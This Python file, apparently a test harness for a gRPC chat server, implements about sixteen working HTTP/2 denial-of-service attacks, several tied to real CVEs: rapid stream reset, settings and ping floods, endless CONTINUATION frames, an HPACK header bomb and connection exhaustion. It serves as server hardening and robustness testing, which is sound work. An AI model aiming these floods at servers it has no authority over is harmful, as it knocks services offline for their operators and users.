"""Attacks on a server by raw HTTP/2 frames: what no gRPC client would send.

    python tests/attacker.py ATTACK HOST:PORT SECONDS [SOURCE]

SOURCE is an address of this machine to come from.

It goes on for so long, whatever the server does to it, and prints how much of it got through.
"""

import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHAT = "/llavachat.v1.ChatService/GetServerInfo"
START = "/llavachat.v1.ChatService/StartChat"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"
MAX_STREAM_ID = 2**31 - 1
STALLED_SECONDS = 1.0
CONNECT_SECONDS = 2.0
SOURCE = sys.argv[4] if __name__ == "__main__" and len(sys.argv) > 4 else ""


class Connection:
    """One TCP connection, whose bytes are ours to choose."""

    def __init__(self, address: str, *, polite: bool = True) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), CONNECT_SECONDS, (SOURCE, 0))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        self._encoder = Encoder()
        self._next_stream = 1
        if polite:
            self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data: bytes) -> None:
        """Send bytes as they are, and throw away what came.

        Raises:
            OSError: the server has closed, or takes nothing more.
        """
        view = memoryview(data)
        while view:
            try:
                view = view[self.socket.send(view) :]
            except BlockingIOError:
                _, writable, _ = select.select((), (self.socket,), (), STALLED_SECONDS)
                if not writable:
                    raise ConnectionError("stalled") from None
            self.drain()

    def drain(self) -> None:
        """Read what has come, without waiting.

        Raises:
            ConnectionError: the server has closed.
        """
        with suppress(BlockingIOError):
            if self.socket.recv(1 << 16) == b"":
                raise ConnectionError("closed")

    def request(self, path: str, *, extra: tuple[tuple[str, str], ...] = ()) -> HeadersFrame:
        """The frame that opens the next stream."""
        frame = HeadersFrame(self._next_stream)
        self._next_stream += 2
        if self._next_stream > MAX_STREAM_ID:
            raise ConnectionError("out of streams")
        frame.data = self._encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", "localhost"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                *extra,
            ]
        )
        frame.flags.add("END_HEADERS")
        return frame

    def close(self) -> None:
        """Leave without a word."""
        self.socket.close()


def join(frames: list[Frame]) -> bytes:
    """Frames as bytes."""
    return b"".join(frame.serialize() for frame in frames)


def data(stream_id: int, body: bytes, *, ends: bool = False) -> DataFrame:
    """A frame of a request's body."""
    frame = DataFrame(stream_id, body)
    if ends:
        frame.flags.add("END_STREAM")
    return frame


# Each attack yields after each blow; what it yields is how many frames or connections it was.


def nothing(address: str) -> Iterator[int]:
    """No attack, to compare with: one connection that says hello."""
    yield from _hold(lambda: Connection(address), 1)


def rapid_reset(address: str) -> Iterator[int]:
    """Streams opened and reset at once, by the hundred (CVE-2023-44487)."""
    connection = Connection(address)
    while True:
        frames: list[Frame] = []
        for _ in range(100):
            opened = connection.request(CHAT)
            frames += [opened, RstStreamFrame(opened.stream_id, error_code=8)]
        connection.send(join(frames))
        yield 100


def ping_flood(address: str) -> Iterator[int]:
    """Pings without a pause."""
    connection = Connection(address)
    while True:
        connection.send(join([PingFrame(0, os.urandom(8)) for _ in range(100)]))
        yield 100


def settings_flood(address: str) -> Iterator[int]:
    """Settings without a pause, each of which must be acknowledged (CVE-2019-9515)."""
    connection = Connection(address)
    while True:
        connection.send(join([SettingsFrame(0, {3: 100}) for _ in range(100)]))
        yield 100


def empty_data(address: str) -> Iterator[int]:
    """A request whose body is endless frames of nothing (CVE-2019-9518)."""
    connection = Connection(address)
    opened = connection.request(START)
    connection.send(opened.serialize())
    while True:
        connection.send(join([data(opened.stream_id, b"") for _ in range(100)]))
        yield 100


def window_updates(address: str) -> Iterator[int]:
    """Window updates of one byte without a pause."""
    connection = Connection(address)
    while True:
        frames = [WindowUpdateFrame(0, window_increment=1) for _ in range(100)]
        connection.send(join(list(frames)))
        yield 100


def continuations(address: str) -> Iterator[int]:
    """A header block without an end (CVE-2024-27316 and its kin)."""
    connection = Connection(address)
    opened = connection.request(CHAT)
    opened.flags.discard("END_HEADERS")
    connection.send(opened.serialize())
    while True:
        piece = Encoder().encode([("x-more", "a" * 4000)])
        frames = [ContinuationFrame(opened.stream_id, piece) for _ in range(20)]
        connection.send(join(list(frames)))
        yield 20


def large_metadata(address: str) -> Iterator[int]:
    """Calls with 64 KiB of metadata."""
    connection = Connection(address)
    while True:
        extra = tuple((f"x-{number}", os.urandom(4000).hex()) for number in range(8))
        opened = connection.request(CHECK, extra=extra)
        block, opened.data = opened.data, opened.data[:16_000]
        opened.flags.discard("END_HEADERS")
        frames: list[Frame] = [opened]
        for begin in range(16_000, len(block), 16_000):
            frames.append(ContinuationFrame(opened.stream_id, block[begin : begin + 16_000]))
        frames[-1].flags.add("END_HEADERS")
        connection.send(join([*frames, data(opened.stream_id, EMPTY_MESSAGE, ends=True)]))
        yield 1


def header_bombs(address: str) -> Iterator[int]:
    """A large header kept in HPACK's table, then named thousands of times in a few bytes."""
    connection = Connection(address)
    # As much as HPACK's table holds; what is more would not be kept.
    bomb = ("x-bomb", "a" * 3900)
    frames = [connection.request(CHECK, extra=(bomb,))]
    connection.send(join([*frames, data(frames[0].stream_id, EMPTY_MESSAGE, ends=True)]))
    while True:
        opened = connection.request(CHECK, extra=(bomb,) * 3000)
        connection.send(join([opened, data(opened.stream_id, EMPTY_MESSAGE, ends=True)]))
        yield 1


def oversize_messages(address: str) -> Iterator[int]:
    """Messages that say they have 4 GiB, and send as much of it as they are let."""
    connection = Connection(address)
    while True:
        opened = connection.request(START)
        prefix = struct.pack(">BI", 0, 2**32 - 1)
        frames: list[Frame] = [opened, data(opened.stream_id, prefix + bytes(4000))]
        connection.send(join([*frames, *(data(opened.stream_id, bytes(4000)) for _ in range(4))]))
        yield 1
        if opened.stream_id > 64:
            connection.close()
            connection = Connection(address)


def malformed_messages(address: str) -> Iterator[int]:
    """Requests whose bodies are no protobuf, or no gRPC."""
    connection = Connection(address)
    while True:
        opened = connection.request(START)
        body = os.urandom(random.randrange(200))
        good = struct.pack(">BI", 0, len(body)) + body
        sent = random.choice([good, body, b"\x01" + good[1:], b"\xff" * 5])
        connection.send(join([opened, data(opened.stream_id, sent, ends=True)]))
        yield 1


def random_bytes(address: str) -> Iterator[int]:
    """Connections that speak no HTTP/2 at all, or begin to and then do not."""
    while True:
        connection = Connection(address, polite=random.random() < 0.5)
        with suppress(OSError):
            connection.send(os.urandom(random.randrange(1, 5000)))
        connection.close()
        yield 1


def wrong_protocol(address: str) -> Iterator[int]:
    """HTTP/1.1 and TLS to a port that speaks neither."""
    words = (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", bytes.fromhex("16030100a5010000a10303"))
    while True:
        connection = Connection(address, polite=False)
        with suppress(OSError):
            connection.send(random.choice(words))
        connection.close()
        yield 1


def _hold(open_one: Callable[[], Connection], number: int) -> Iterator[int]:
    """Open so many, and then only keep them."""
    held = []
    for _ in range(number):
        try:
            held.append(open_one())
        except OSError:
            # Refused: as many are open as may be.
            time.sleep(0.01)
            continue
        yield 1
    while True:
        time.sleep(0.1)
        for connection in held:
            with suppress(OSError):
                connection.drain()
        yield 0


def idle_connections(address: str) -> Iterator[int]:
    """Three thousand connections that say hello and nothing more."""
    yield from _hold(lambda: Connection(address), 3000)


def silent_connections(address: str) -> Iterator[int]:
    """A thousand connections that say nothing at all."""
    yield from _hold(lambda: Connection(address, polite=False), 1000)


def _open_unfinished(address: str, path: str, body: bytes, number: int) -> Connection:
    connection = Connection(address)
    frames: list[Frame] = []
    for _ in range(number):
        opened = connection.request(path)
        frames.append(opened)
        if body:
            frames.append(data(opened.stream_id, body))
    connection.send(join(frames))
    return connection


def unfinished_streams(address: str) -> Iterator[int]:
    """Twenty connections of a hundred calls whose requests never come."""
    yield from _hold(lambda: _open_unfinished(address, CHECK, b"", 100), 20)


def health_watches(address: str) -> Iterator[int]:
    """Twenty connections of a hundred watches of health, which never end by themselves."""
    yield from _hold(lambda: _open_unfinished(address, WATCH, EMPTY_MESSAGE, 100), 20)


ATTACKS: dict[str, Callable[[str], Iterator[int]]] = {
    attack.__name__: attack
    for attack in (
        nothing,
        rapid_reset,
        ping_flood,
        settings_flood,
        empty_data,
        window_updates,
        continuations,
        large_metadata,
        header_bombs,
        oversize_messages,
        malformed_messages,
        random_bytes,
        wrong_protocol,
        idle_connections,
        silent_connections,
        unfinished_streams,
        health_watches,
    )
}


def run(name: str, address: str, seconds: float) -> int:
    """Attack for so long; begin again whenever the server ends it. How many blows fell."""
    end, number = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        try:
            for count in ATTACKS[name](address):
                number += count
                if time.monotonic() > end:
                    break
        except OSError:
            # The server has ended the connection, which took a blow as well.
            number += 1
            time.sleep(0.001)
    return number


if __name__ == "__main__":
    print(run(sys.argv[1], sys.argv[2], float(sys.argv[3])), flush=True)
